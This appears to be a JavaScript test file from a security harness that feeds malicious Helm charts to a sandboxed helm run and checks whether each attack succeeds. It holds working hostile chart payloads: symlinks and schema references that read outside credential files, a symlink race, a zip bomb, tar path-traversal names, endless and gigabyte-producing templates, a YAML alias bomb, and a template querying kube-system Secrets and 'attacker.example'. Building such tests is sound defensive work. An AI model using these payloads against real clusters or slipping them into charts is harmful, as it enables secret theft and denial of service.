// Charts that are bad in themselves.
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { secret } from '../world.mjs';
import { chart, packed, zeros } from '../pieces.mjs';
import { helm, byChart } from '../charts.mjs';

/** @type {import('../attack.mjs').Attack[]} */
export default [
  byChart(
    'a schema of values refers to a port of this machine',
    (world) =>
      world.write('chart/values.schema.json', `{"$ref":"http://127.0.0.1:${world.port}/schema.json"}`),
    async (world) => {
      await helm(world, 'x', '.');
      return world.contacts > 0;
    },
  ),
  byChart(
    'a schema of values refers to a file of the machine',
    (world) => {
      const rest = `file://${world.outside}/schema.json`;
      // A reference may stand anywhere, in other words, and in a chart in the chart.
      world.write(
        'chart/values.schema.json',
        `{"properties":{"a":{"allOf":[{"\\u0024ref":"${rest}"}]}},"$ref":"${rest}"}`,
      );
      chart(world, 'chart/charts/sub');
      world.write(
        'chart/charts/sub/values.schema.json',
        `{"$schema":"http://json-schema.org/draft-07/schema#","$ref":"${rest}"}`,
      );
      writeFileSync(path.join(world.outside, 'schema.json'), `{"required":["${secret}"]}`);
    },
    async (world) => (await helm(world, 'x', '.')).output.includes(secret),
  ),
  byChart(
    'a chart has links to files and folders of the machine',
    (world) => {
      world.write(
        'chart/templates/leak.yaml',
        'apiVersion: v1\nkind: Service\nmetadata: { name: {{ .Files.Get "one" | quote }}, labels: { a: {{ .Files.Get "all/credentials" | quote }} } }\n',
      );
      world.link('chart/one', '../../outside/credentials');
      world.link('chart/all', '../../outside');
      world.link('chart/templates/_linked.tpl', '../../../outside/credentials');
    },
    async (world) => (await helm(world, 'x', '.')).output.includes(secret),
  ),
  {
    ...byChart(
      'a folder of a chart becomes a link to a folder of the machine, over and over',
      (world) => {
        for (let index = 0; index < 20; index += 1) world.write(`chart/${index}/inner.yaml`, 'x');
        const read = (/** @type {number} */ index) =>
          `l${index}: {{ .Files.Get "${index}/inner.yaml" | quote }}`;
        world.write(
          'chart/templates/leak.yaml',
          `apiVersion: v1\nkind: Service\nmetadata: { name: x, labels: { ${Array.from({ length: 20 }, (_, index) => read(index)).join(', ')} } }\n`,
        );
      },
      async (world) => {
        symlinkSync('../../outside/folder', path.join(world.repo, 'chart/link'));
        writeFileSync(
          path.join(world.repo, 'chart/templates/leak.yaml'),
          'kind: {{ .Files.Get "link/inner.yaml" | quote }}\n',
        );
        return (await helm(world, 'x', '.')).output.includes(secret);
      },
      { isRace: true },
    ),
    meanwhile: (world) =>
      world.background(`
        const { renameSync, symlinkSync, unlinkSync } = require('node:fs');
        for (;;)
          for (let index = 0; index < 20; index += 1) {
            const folder = 'chart/' + index;
            try {
              renameSync(folder, folder + '.away');
              symlinkSync('../../outside/folder', folder);
              unlinkSync(folder);
              renameSync(folder + '.away', folder);
            } catch {}
          }`),
  },
  byChart(
    'a chart has a link to an endless device',
    (world) => world.link('chart/zero', '/dev/zero'),
    async (world) => /irregular file/.test((await helm(world, 'x', '.')).output),
  ),
  byChart(
    'charts/ has an archive of zeros',
    (world) =>
      world.write(
        'chart/charts/sub-1.0.0.tgz',
        packed({
          'sub/Chart.yaml': 'apiVersion: v2\nname: sub\nversion: 1.0.0\n',
          ...Object.fromEntries(
            Array.from({ length: 40 }, (_, index) => [`sub/files/${index}`, zeros(5_000_000)]),
          ),
        }),
      ),
    async (world) => {
      const { output } = await world.run('sh', ['-c', 'gzip -dc chart/charts/sub-1.0.0.tgz | wc -c']);
      return Number(output) > 200_000_000;
    },
  ),
  byChart(
    'charts/ has an archive whose names lead out',
    (world) =>
      world.write(
        'chart/charts/sub-1.0.0.tgz',
        packed({
          'sub/Chart.yaml': 'apiVersion: v2\nname: sub\nversion: 1.0.0\n',
          'sub/../../../../outside/written': 'x',
          '../../../outside/written': 'x',
          'sub/templates/a.yaml': { link: '../../../../outside/credentials' },
        }),
      ),
    async (world) => {
      // The names are real: tar, told to trust them, writes there.
      const folder = path.join(world.root, 'one/two/three');
      mkdirSync(folder, { recursive: true });
      await world.run('tar', ['-xPf', path.join(world.repo, 'chart/charts/sub-1.0.0.tgz')], { cwd: folder });
      return existsSync(path.join(world.root, 'outside/written'));
    },
  ),
  byChart(
    'dependencies are folders outside, and nobody fetched them',
    (world) => {
      world.write(
        'chart/Chart.yaml',
        `apiVersion: v2\nname: shop\nversion: 1.0.0\ndependencies: [{ name: sub, version: 1.0.0, repository: "file://../../outside/sub" }, { name: b, version: 1.0.0, repository: "http://127.0.0.1:${world.port}" }]\n`,
      );
      mkdirSync(path.join(world.outside, 'sub'));
      writeFileSync(
        path.join(world.outside, 'sub/Chart.yaml'),
        'apiVersion: v2\nname: sub\nversion: 1.0.0\n',
      );
    },
    async (world) => {
      const text = readFileSync(path.join(world.repo, 'chart/Chart.yaml'), 'utf8');
      writeFileSync(path.join(world.repo, 'chart/Chart.yaml'), text.replace(/, \{ name: b.*?\}/, ''));
      await helm(world, '--dependency-update', 'x', '.');
      return existsSync(path.join(world.repo, 'chart/charts/sub-1.0.0.tgz'));
    },
  ),
  byChart(
    'a template never ends',
    (world) =>
      world.write(
        'chart/templates/loop.yaml',
        '{{ range $i := until 100000 }}{{ range $j := until 100000 }}{{ end }}{{ end }}\n',
      ),
    async (world) => (await helm(world, 'x', '.')).isLate,
    { exit: [4] },
  ),
  byChart(
    'a template writes gigabytes',
    (world) =>
      world.write(
        'chart/templates/much.yaml',
        'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: much }\ndata:\n{{ range $i := until 100000 }}  k{{ $i }}: {{ repeat 100000 "a" }}\n{{ end }}\n',
      ),
    async (world) => {
      const { isLate, status } = await helm(world, 'x', '.');
      return isLate || status !== 0;
    },
    // 2048 MB, and the program: the kernel checks the limit after what a mapping replaces, so one block of Go's heap may pass it.
    { exit: [4], megabytes: 2900 },
  ),
  byChart(
    'values are a bomb of aliases',
    (world) => {
      const levels = Array.from(
        { length: 9 },
        (_, index) =>
          `a${index + 1}: &a${index + 1} [${Array.from({ length: 9 }, () => `*a${index}`).join(', ')}]`,
      );
      world.write('chart/values.yaml', `a0: &a0 [x, x, x, x, x, x, x, x, x]\n${levels.join('\n')}\n`);
    },
    async (world) => /excessive aliasing/.test((await helm(world, 'x', '.')).output),
  ),
  byChart(
    'a chart asks the cluster and the names of hosts',
    (world) => {
      world.write(
        'chart/templates/ask.yaml',
        'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: ask }\ndata: { a: {{ lookup "v1" "Secret" "kube-system" "" | toJson | quote }}, b: {{ getHostByName "attacker.example" | quote }} }\n',
      );
    },
    async (world) => {
      const { output } = await helm(world, 'x', '.', '--enable-dns', '--dry-run=server');
      return /:8080|no such host|cluster unreachable/i.test(output);
    },
  ),
];
